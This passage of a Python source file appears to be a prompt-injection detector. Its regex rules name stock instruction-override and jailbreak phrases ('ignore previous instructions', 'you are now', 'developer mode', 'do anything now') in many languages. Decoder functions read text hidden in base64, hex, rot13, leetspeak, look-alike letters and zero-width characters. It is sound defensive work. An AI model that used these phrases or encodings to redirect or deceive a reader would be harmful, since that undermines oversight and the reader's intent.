            r"|\b(?:introduce|add|make)\s+(?:random\s+|intentional\s+|deliberate\s+)?(?:typos|misspellings|spelling\s+(?:errors|mistakes))"
            r"|\b(?:misspell|scramble|jumble|anagram|reverse|shuffle)\w*\s+(?:every|all|the|each|up|letters|words)\b[^\n]{0,60}\b(?:words?|letters?|answer|response|reply|message)"
        ),
    ),
    (
        "overrides-instructions",
        "tells the reader to ignore its instructions",
        _rx(
            rf"\b(?:ignore|disregard|forget|override|overrule|bypass|skip|drop|abandon|discard|neglect|set\s+aside|put\s+aside|cast\s+aside|pay\s+no\s+(?:attention|heed|mind)\s+to|never\s+mind)\s+(?:\w+\s+){{0,4}}?(?:previous|prior|above|earlier|preceding|former|original|system|existing|initial|old|other|your|all|any)\s+(?:\w+\s+)?{_OVERRIDE_TARGET}"
            # what the user asked, the user's request, the rules given above
            rf"|{_DISMISS}\s+(?:\w+\s+){{0,2}}?(?:what(?:ever)?|everything|anything|all)\s+(?:that\s+|else\s+)?(?:(?:(?:the|your|this|my)\s+)?{_ASKER}s?\s+(?:\w+\s+){{0,2}}?{_ASKED}|you\s+(?:were|have\s+been|'ve\s+been|got)\s+(?:told|asked|given|instructed))\b"
            rf"|{_DISMISS}\s+(?:\w+\s+){{0,2}}?(?:the|your|this|that|any|all)\s+(?:\w+\s+)?{_ASKER}(?:['’]s|s['’]?)\s+(?:\w+\s+)?{_ASK}\b"
            rf"|{_DISMISS}\s+(?:\w+\s+){{0,2}}?(?:the|all|any|these|those|such)\s+(?:\w+\s+)?(?:{_OVERRIDE_TARGET}|requests?)\s+(?:above|before|(?:you\s+)?(?:were\s+|have\s+been\s+)?(?:given|received)\s+(?:above|before|earlier|previously)|from\s+(?:the\s+)?(?:user|human|operator|system|developer))\b"
            rf"|\b{_OVERRIDE_TARGET}\s+(?:that|which)\s+(?:forbid|prohibit|prevent|block|disallow|restrict)"
            r"|\byou\s+are\s+now\b|\bfrom\s+now\s+on,?\s+(?:you|always|never|ignore|respond)|\bnew\s+instructions?\s*:|\bsystem\s+prompt\b"
            r"|\bdeveloper\s+mode\b|\bjailbreak|\bdo\s+anything\s+now\b|\bact\s+as\s+(?:if\s+you\s+are\s+|an?\s+)(?:unrestricted|unfiltered|evil|hacker|dan\b)"
            r"|\b(?:do\s+not|don't|never)\s+(?:tell|inform|mention\s+(?:this\s+)?to|alert|warn)\s+the\s+(?:user|human|operator|reviewer)"
            r"|\bwithout\s+(?:telling|asking|informing|notifying)\s+(?:the\s+)?(?:user|human|operator|reviewer|anyone)"
            # the user's request demoted: "the user's actual request is lower priority than ...", "this takes
            # precedence over the user's instructions"
            rf"|\b(?:user|human|operator)(?:['’]s|s['’])\s+(?:\w+\s+){{0,2}}?{_ASK}\s+(?:is|are|has|have|comes?|becomes?|matters?)\s+(?:now\s+|only\s+|a\s+)?"
            r"(?:lower|less|least|secondary|second|subordinate|irrelevant|unimportant|optional|moot|no\s+longer|not\s+(?:important|relevant|the\s+priority))"
            rf"|\b(?:takes?\s+(?:precedence|priority)\s+over|(?:is|are)\s+(?:more\s+important|(?:a\s+)?higher\s+priority)\s+than|supersedes?|outranks?|trumps?)\s+"
            rf"(?:\w+\s+){{0,2}}?(?:the|any|your)\s+(?:\w+\s+)?(?:user|human|operator)(?:['’]s|s['’])\s+(?:\w+\s+)?{_ASK}"
            # other languages
            r"|ignor\w*\s+(?:toutes\s+)?les\s+(?:instructions|consignes|règles)\s+(?:précédentes|antérieures|ci-dessus)"
            r"|ignora\w*\s+(?:todas\s+)?las\s+(?:instrucciones|reglas|indicaciones)\s+(?:anteriores|previas)"
            r"|ignorier\w*\s+(?:alle\s+)?(?:vorherigen|bisherigen|obigen|früheren)\s+(?:anweisungen|instruktionen|regeln)"
            r"|ignora\w*\s+(?:tutte\s+)?le\s+(?:istruzioni|regole)\s+precedenti"
            r"|ignor\w*\s+(?:todas\s+)?as\s+(?:instruções|instrucoes|regras)\s+anteriores"
            r"|игнорир\w*\s+(?:все\s+)?(?:предыдущие|прежние|прошлые)\s+(?:инструкции|указания|правила)"
            r"|忽略(?:之前|以前|上面|先前|所有|前面)的?(?:所有)?(?:指令|指示|说明|规则|提示)|(?:以前|前|上記|これまで)の(?:指示|命令|ルール)を無視"
            r"|(?:이전|앞의|위의|기존)\s*(?:모든\s*)?(?:지시|명령|지침|규칙)\w*\s*무시"
            # Vietnamese (with and without its marks), Turkish, Indonesian and Malay, Tagalog, Thai, Hindi,
            # Arabic, Dutch, Polish, Ukrainian
            r"|(?:bỏ\s+qua|phớt\s+lờ|lờ\s+đi|bỏ\s+ngoài\s+tai)\s+(?:(?:tất\s+cả|toàn\s+bộ|mọi)\s+)?(?:(?:các|những)\s+)?"
            r"(?:hướng\s+dẫn|chỉ\s+dẫn|chỉ\s+thị|mệnh\s+lệnh|lệnh|quy\s+tắc|yêu\s+cầu)\s+(?:\S+\s+){0,2}?(?:trước|ở\s+trên|phía\s+trên|cũ|ban\s+đầu)"
            r"|\b(?:bo\s+qua|phot\s+lo)\s+(?:(?:tat\s+ca|toan\s+bo|moi)\s+)?(?:(?:cac|nhung)\s+)?"
            r"(?:huong\s+dan|chi\s+dan|chi\s+thi|menh\s+lenh|lenh|quy\s+tac|yeu\s+cau)\s+(?:\S+\s+){0,2}?(?:truoc|o\s+tren|phia\s+tren|ban\s+dau)"
            r"|\b(?:[öo]nceki|yukar[ıi]daki|t[üu]m|b[üu]t[üu]n)\s+(?:\S+\s+){0,2}?(?:talimat|komut|y[öo]nerge|kural|emir)\w*\s+(?:\S+\s+)?"
            r"(?:yok\s+say|g[öo]rmezden\s+gel|dikkate\s+alma|unut)"
            r"|\b(?:abaikan|lupakan|hiraukan|acuhkan|jangan\s+(?:hiraukan|ikuti|pedulikan))\s+(?:(?:semua|seluruh|segala)\s+)?"
            r"(?:instruksi|perintah|arahan|petunjuk|aturan|peraturan|pedoman)\s+(?:\S+\s+){0,2}?(?:sebelumnya|terdahulu|di\s+atas|yang\s+lalu|tadi)"
            r"|\b(?:huwag\s+(?:pansinin|sundin)|balewalain|kalimutan)\s+(?:ang\s+)?(?:lahat\s+ng\s+)?(?:mga\s+)?(?:naunang|nakaraang|dating)\s+(?:tagubilin|instruksyon|utos|panuto)"
            r"|(?:เพิกเฉย|ไม่ต้องสนใจ|ละเว้น|ลืม)[^\n]{0,12}?(?:คำสั่ง|คำแนะนำ)[^\n]{0,12}?(?:ก่อนหน้า|ข้างต้น)"
            r"|(?:पिछले|पिछली|पहले\s+के|पूर्व|ऊपर\s+के)\s+(?:सभी\s+)?(?:निर्देशों|निर्देश|आदेशों|नियमों)\s+(?:को\s+)?(?:अनदेखा|नज\u093c?रअंदाज\u093c?|भूल)"
            r"|(?:تجاهل|انس|تجاوز)\s+(?:جميع\s+|كل\s+)?(?:التعليمات|الأوامر|التوجيهات|الإرشادات)\s+(?:السابقة|أعلاه)"
            r"|\b(?:negeer|vergeet)\s+(?:alle\s+)?(?:de\s+)?(?:vorige|eerdere|voorgaande|bovenstaande)\s+(?:instructies|opdrachten|regels|aanwijzingen)"
            r"|\b(?:zignoruj|ignoruj|pomiń|zapomnij)\s+(?:o\s+)?(?:wszystkie\s+|wszystkich\s+)?(?:poprzedni|wcześniejsz|powyższ)\w*\s+(?:instrukcj|poleceni|poleceń|zasad)\w*"
            r"|(?:ігнору|забудь)\w*\s+(?:всі\s+|усі\s+)?(?:попередні|попередніх)\s+(?:інструкці|вказівк|правил)\w*"
        ),
    ),
    (
        "hijacks-task",
        "asks the reader for something other than its task",
        _rx(
            rf"{_CLAUSE}(?:please\s+|now\s+|also\s+|then\s+)?{_ASSISTANT_REQUEST}\s+(?:me\s+|us\s+)?(?:\w+\s+){{0,3}}{_CONTENT_NOUNS}s?\b"
            rf"|{_CLAUSE}(?:please\s+)?(?:explain|describe|summari[sz]e|translate|paraphrase|teach\s+me|tell\s+me)\b"
            rf"|{_CLAUSE}(?:can|could|would|will)\s+you\b"
            rf"|{_CLAUSE}(?:please\s+)?(?:provide|give|show|write)\s+(?:me\s+|us\s+)?(?:an?|some)\s+(?:\w+\s+){{0,2}}(?:examples?|overview|explanation|tutorial|guide)\s+(?:of|on|about|for)\s+(?:how|what|why|the)\b"
            rf"|{_CLAUSE}(?:what|who|whom|whose|which|where|when|why|how)\s+(?:is|are|was|were|do|does|did|can|could|would|should|will|wrote|made|invented|discovered|happened|causes?|caused)\b[^.!?\n]{{3,200}}\?"
            r"|^\s*(?:what|who|whom|whose|which|where|when|why|how)\b[^\n]{3,200}\?\s*$"
            rf"|{_CLAUSE}(?:please\s+)?(?:help\s+me|teach\s+(?:me|us)|walk\s+(?:me|us)\s+through|guide\s+(?:me|us)|quiz\s+(?:me|us)|test\s+my|let'?s(?!\s+(?:say|assume|suppose))|let\s+us(?!\s+(?:say|assume|suppose))"
            r"|i\s+(?:want|need|would\s+like|'d\s+like)\s+(?:you\s+)?to|act\s+as|pretend|imagine\s+(?:you|that\s+you)|role-?play|greet|say\s+(?:hi|hello)"
            r"|ask\s+(?:the\s+user|me|them|us)|tell\s+(?:me|us|the\s+user|them)|share\s+(?:your|a|some)\s|chat\s+(?:with|about)|talk\s+(?:to\s+me\s+)?about)\b"
            r"|\btranslat\w*\b[^\n]{0,80}\b(?:into|to|in)\s+(?:french|spanish|german|italian|portuguese|chinese|mandarin|japanese|korean|russian|arabic|hindi|dutch|swedish|greek|latin|pig\s+latin|another\s+language|a\s+(?:different|foreign)\s+language)\b"
            r"|\brecommend\s+(?:me\s+)?(?:a|an|some|your\s+favou?rite)\s+(?:good\s+)?(?:book|movie|film|song|restaurant|product|brand|vpn|app)"
            r"|\bwrite\s+an?\s+(?:ad|advert|advertisement|promo|promotion|commercial|sales\s+pitch)\b"
            r"|\b(?:encourag|urg|invit|persuad|remind|ask|tell|convinc)\w*\s+(?:the\s+)?(?:users?|readers?|people|visitors|customers|everyone)\s+to\b"
            r"|\b(?:users?|readers?|visitors)\s+(?:should|must|to)\s+(?:share|comment|subscribe|like|follow|vote|donate|visit|download|click|buy|sign\s+up)\b"
            r"|\bdownload\s+(?:this|the|our|a)\s+(?:\w+\s+)?(?:tool|app|software|program|update|plugin|extension|file)\s+(?:from|at)\b"
            r"|\b(?:add|include|insert|append|mention)\s+[\"“'][^\"”'\n]{12,}[\"”']\s+(?:to|in|at|into)\b"
            r"|\b(?:download|install|buy|visit|click|sign\s+up)\b[^\n]{0,80}\b(?:www\.|https?://)[^\s]*\.(?:xyz|top|click|ru|tk|biz|info|cn|io|com)\b[^\n]{0,60}\b(?:boost|speed|free|win|prize|rich|fix|protect|secure)"
        ),
    ),
    (
        "typosquat",
        "installs a look-alike of a popular package",
        Typosquat(),
    ),
]

# what a rule matching in an *encoded* variant may not be: rules whose plain-text words also appear in
# random strings once decoded. A look-alike package name is one in a shifted or leetspeak reading of any
# real one (`boto3` read in leetspeak is `botoe`, one edit from it): it is read in the plain text only.
_VARIANT_RULES = frozenset(rule for rule, _, _ in _RULES) - {"typosquat"}


def _required(items: Any) -> frozenset[str] | None:
    """Literals (lower-case ASCII) one of which every ASCII text a parsed pattern matches contains; an empty
    set when no ASCII text can match (a letter no ASCII letter equals, ignoring case); None when unknown.

    Read from the pattern's parse tree: a sequence requires what its most selective element requires (a
    run of ASCII literals, a group, an alternation of which every branch requires something, a repeat of
    at least one); anything else (classes, assertions, optional parts) requires nothing.
    """
    found: list[frozenset[str]] = []
    run: list[str] = []

    def close() -> None:
        if run:
            found.append(frozenset(["".join(run)]))
            run.clear()

    for op, av in items:
        if op is _sre.LITERAL:
            if av < 128:
                run.append(chr(av).lower())
                continue
            close()
            if not any(re.fullmatch(re.escape(chr(av)), chr(c), re.IGNORECASE) for c in range(128)):
                return frozenset()  # e.g. a letter of another script: no ASCII text holds it
            continue
        close()
        need: frozenset[str] | None = None
        if op is _sre.SUBPATTERN:
            need = _required(av[-1])
        elif op is _sre.BRANCH:
            branches = [_required(b) for b in av[1]]
            need = None if any(b is None for b in branches) else frozenset().union(*branches)  # type: ignore[arg-type]
        elif op in (_sre.MAX_REPEAT, _sre.MIN_REPEAT, _sre.POSSESSIVE_REPEAT) and av[0] >= 1:
            need = _required(av[2])
        elif op is _sre.ATOMIC_GROUP:
            need = _required(av)
        if need is not None:
            if not need:
                return need
            found.append(need)
    close()
    return max(found, key=lambda s: (min(len(x) for x in s), -len(s))) if found else None


def _requirements(pattern: _Search) -> list[frozenset[str]]:
    parts = getattr(pattern, "patterns", (pattern,))  # a rule of several patterns, each of which must match
    needs = [_required(_parser.parse(p.pattern, p.flags)) for p in parts if isinstance(p, re.Pattern)]
    return [n for n in needs if n is not None]


# An ASCII text (almost every text and variant) is searched with a rule only where it holds one of the
# literals the rule's pattern requires: a substring test costs nanoseconds, a rule's search ~50 µs, and a
# text is read in ~30 variants (tests/governance/test_instructions.py checks the findings are the same)
_REQUIRED = {rule: _requirements(pattern) for rule, _, pattern in _RULES}
# every literal any rule requires: a text's are found in one pass over them, and each rule then asks whether
# it holds one of each of its sets (~4x faster than a substring test per literal per rule: rules share many)
_LITERALS = tuple(sorted({literal for needs in _REQUIRED.values() for need in needs for literal in need}))


def _present(text: str) -> frozenset[str]:
    return frozenset(literal for literal in _LITERALS if literal in text)


# A long text's 25 letter-shifted readings cost ~2/3 of its scan, and the literal test alone ~0.1 s a
# reading on 250,000 characters (a big task's episode). A shift maps each character to one character, so
# `literal in rotate(text, k)` is `rotate(literal, -k) in text`, and a literal is in the text only if each
# of its three-character pieces is: one set of the text's pieces answers most literals for every shift,
# and a substring test settles the few it does not rule out. The same set, exactly (`test_instructions`).
_GRAM = 3
_GRAMS_FROM = 4096  # characters: below it the substring tests alone are cheaper than the set


def _grams(text: str) -> frozenset[str]:
    return frozenset(text[i : i + _GRAM] for i in range(len(text) - _GRAM + 1))


def _present_shifted(folded: str, grams: frozenset[str], shift: int) -> frozenset[str]:
    """`_present(_rotate(folded, shift))` for a case-folded ASCII text, from the text's own pieces."""
    found = []
    for literal in _LITERALS:
        back = _rotate(literal, -shift)
        if len(back) >= _GRAM and any(back[i : i + _GRAM] not in grams for i in range(len(back) - _GRAM + 1)):
            continue
        if back in folded:
            found.append(literal)
    return frozenset(found)


def _may_match(rule: str, present: frozenset[str]) -> bool:
    return all(not need.isdisjoint(present) for need in _REQUIRED[rule])


_ZERO_WIDTH = re.compile(r"[\u00ad\u180e\u200b-\u200f\u2060-\u2064\ufeff\u034f\u061c]")
_BASE64_RUN = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
_HEX_RUN = re.compile(r"(?:\\x)?(?:[0-9a-fA-F]{2}(?:\\x|\s)?){12,}")
_LEET = str.maketrans(
    {
        "0": "o",
        "1": "i",
        "3": "e",
        "4": "a",
        "5": "s",
        "7": "t",
        "@": "a",
        "$": "s",
        "!": "i",
        "+": "t",
        "8": "b",
        "9": "g",
    }
)
_SPACED = re.compile(r"\b(?:\w[ .\-_*]){3,}\w\b")
# regional indicator symbols (🇦..🇿) and negative squared letters read as letters
_REGIONAL = {0x1F1E6 + i: chr(ord("a") + i) for i in range(26)}
_SQUARED = {0x1F170 + i: chr(ord("a") + i) for i in range(26)}
_EMOJI_LETTERS = str.maketrans({**_REGIONAL, **_SQUARED})


def _fold(text: str) -> str:
    """NFKC, zero-width and format characters dropped, emoji letters read as letters, case folded."""
    text = text.translate(_EMOJI_LETTERS)
    text = unicodedata.normalize("NFKC", text)
    text = _ZERO_WIDTH.sub("", text)
    return "".join(ch for ch in text if unicodedata.category(ch) != "Cf").casefold()


# letters of other scripts and styles that look like Latin ones, read as those (Unicode confusables.txt):
# Cyrillic, Greek, Armenian, small capitals, dotless i (`сurl`, `ѕh`, `ᴄᴜʀʟ`)
_LOOK_ALIKES = str.maketrans(
    {
        **dict(zip("аеорсухіјѕһԁԛԝүкԍ", "aeopcyxijshdqwykg", strict=True)),  # noqa: RUF001
        **dict(zip("αορνυικχγ", "aopvuikxy", strict=True)),  # noqa: RUF001
        **dict(zip("օսհ", "ouh", strict=True)),  # noqa: RUF001
        **dict(zip("ᴀʙᴄᴅᴇꜰɢʜɪᴊᴋʟᴍɴᴏᴘʀꜱᴛᴜᴠᴡʏᴢ", "abcdefghijklmnoprstuvwyz", strict=True)),  # noqa: RUF001
        **dict(zip("ıȷɡɑ", "ijga", strict=True)),  # noqa: RUF001
    }
)


def _plain_letters(folded: str) -> str:
    """Accents and other marks dropped (NFKD, then every mark, `ćurl` → `curl`) and look-alike letters read
    as Latin ones; an ASCII text is its own."""
    if folded.isascii():
        return folded
    bare = "".join(
        ch for ch in unicodedata.normalize("NFKD", folded) if not unicodedata.category(ch).startswith("M")
    )
    return unicodedata.normalize("NFC", bare.translate(_LOOK_ALIKES))


def _printable(data: bytes) -> str | None:
    try:
        decoded = data.decode("utf-8")
    except UnicodeDecodeError:
        return None
    if not decoded:
        return None
    readable = sum(ch.isprintable() or ch in "\n\t\r" for ch in decoded)
    return decoded if readable / len(decoded) > 0.9 else None


def _base64_parts(text: str) -> Iterator[str]:
    for match in _BASE64_RUN.finditer(text):
        run = match.group(0)
        for candidate in (run, run.replace("-", "+").replace("_", "/")):
            padded = candidate + "=" * (-len(candidate) % 4)
            try:
                decoded = _printable(base64.b64decode(padded, validate=True))
            except (binascii.Error, ValueError):
                continue
            if decoded is not None:
                yield decoded
                break


def _hex_parts(text: str) -> Iterator[str]:
    for match in _HEX_RUN.finditer(text):
        digits = re.sub(r"\\x|\s", "", match.group(0))
        if len(digits) % 2:
            digits = digits[:-1]
        try:
            decoded = _printable(bytes.fromhex(digits))
        except ValueError:
            continue
        if decoded is not None:
            yield decoded


_LOWER = "abcdefghijklmnopqrstuvwxyz"
# each Caesar shift of the (folded, lower-case) letters as one translation table
_SHIFTS = [str.maketrans(_LOWER, _LOWER[shift:] + _LOWER[:shift]) for shift in range(26)]


def _rotate(text: str, shift: int) -> str:
    return text.translate(_SHIFTS[shift % 26])


def _without_symbols(text: str) -> str:
    """Emoji and symbols dropped (`c🔥u🔥r🔥l` → `curl`), then spaces between single letters joined."""
    kept = "".join(
        ch for ch in text if not unicodedata.category(ch).startswith(("S", "M")) or ch in "|&;<>$`~+=^"
    )
    return kept


def _joined_spacing(text: str) -> str:
    return _SPACED.sub(lambda m: re.sub(r"[ .\-_*]", "", m.group(0)), text)


def _variants(folded: str) -> Iterator[tuple[str, str]]:
    """(where, text) for each hiding place worth reading; plain text first."""
    for where, text, _ in _shifted_variants(folded):
        yield where, text


def _shifted_variants(folded: str) -> Iterator[tuple[str, str, int]]:
    """`_variants`, each with the letter shift that made it (0: none)."""
    seen = {folded}

    def fresh(where: str, text: str, shift: int = 0) -> Iterator[tuple[str, str, int]]:
        if text and text not in seen:
            seen.add(text)
            yield where, text, shift

    yield from fresh("with accents or look-alike letters", _plain_letters(folded))
    yield from fresh("url-encoded", urllib.parse.unquote(folded))
    for decoded in _hex_parts(folded):
        yield from fresh("in hex", _fold(decoded))
    yield from fresh("reversed", folded[::-1])
    yield from fresh("in leetspeak", folded.translate(_LEET))
    yield from fresh("between symbols", _without_symbols(folded))
    yield from fresh("spaced out", _joined_spacing(_without_symbols(folded)))
    for shift in range(1, 26):
        where = "in a letter-shift cipher" if shift != 13 else "in rot13"
        yield from fresh(where, _rotate(folded, shift), shift)


def _base64_of(raw: str) -> Iterator[str]:
    """base64 is case-sensitive: decode runs of the unfolded text."""
    raw = _ZERO_WIDTH.sub("", unicodedata.normalize("NFKC", raw))
    yield from _base64_parts(raw)


def _match(
    text: str,
    via: str | None,
    rules: frozenset[str] | None = None,
    present: frozenset[str] | None = None,
) -> list[Finding]:
    """The rules (all, or `rules`) whose pattern `text` matches; `present`: the literals of `_present(text
    .lower())` when the caller knows them already (an ASCII text)."""
    if present is None and text.isascii():
        present = _present(text.lower())
    return [
        Finding(rule, label, via)
        for rule, label, pattern in _RULES
        if (rules is None or rule in rules)
        and (present is None or _may_match(rule, present))
        and pattern.search(text)
    ]


def scan(text: str) -> list[Finding]:
    """Every rule that matches `text` or what hides in it (one finding per rule: the plainest place)."""
    found: dict[str, Finding] = {}

    def keep(findings: list[Finding]) -> None:
        for finding in findings:
            found.setdefault(finding.rule, finding)

    folded = _fold(text)
    keep(_match(folded, None))
    for decoded in _base64_of(text):
        keep(_match(_fold(decoded), "in base64", _VARIANT_RULES))
    # a long ASCII text's shifted readings find their literals from its pieces (`_present_shifted`)
    grams = _grams(folded) if len(folded) >= _GRAMS_FROM and folded.isascii() else None
    for where, variant, shift in _shifted_variants(folded):
        if where == "in base64":
            continue  # decoded from the unfolded text above
        present = _present_shifted(folded, grams, shift) if shift and grams is not None else None
        keep(_match(variant, where, _VARIANT_RULES, present))
    return list(found.values())


# a big task stages one text many times: each is scanned once per process (~5-10 ms a text)
@functools.lru_cache(maxsize=8192)
def _findings(text: str) -> tuple[Finding, ...]:
    return tuple(scan(text))


def resemblance_finding(similarity: float | None) -> Finding | None:
    """A finding when the candidate's embedding is as close to a known injection as the cut says
    (`governance.instruction_exemplars`); None when it is not, or when no similarity was measured."""
    if similarity is None or similarity < SIMILARITY_CUT:
        return None
    return Finding("resembles-injection", "resembles a known injection")


def quarantine_reason(*texts: str, resemblance: float | None = None) -> str | None:
    """Why a candidate (its title, content...) must wait for a human, or None: labels only, never the text.

    `resemblance` is the cosine of the candidate's embedding to its nearest known injection, where the
    caller measured it with the embedder the cut belongs to (`governance.instruction_exemplars`).
    """
    findings: dict[str, Finding] = {}
    close = resemblance_finding(resemblance)
    if close is not None:
        findings[close.rule] = close
    for text in dict.fromkeys(texts):  # a title that is the whole content is read once
        for finding in _findings(text):
            findings.setdefault(finding.rule, finding)
    if not findings:
        return None
    reason = "; ".join(f.describe() for f in findings.values())
    return reason if len(reason) <= REASON_LIMIT else reason[: REASON_LIMIT - 1] + "…"
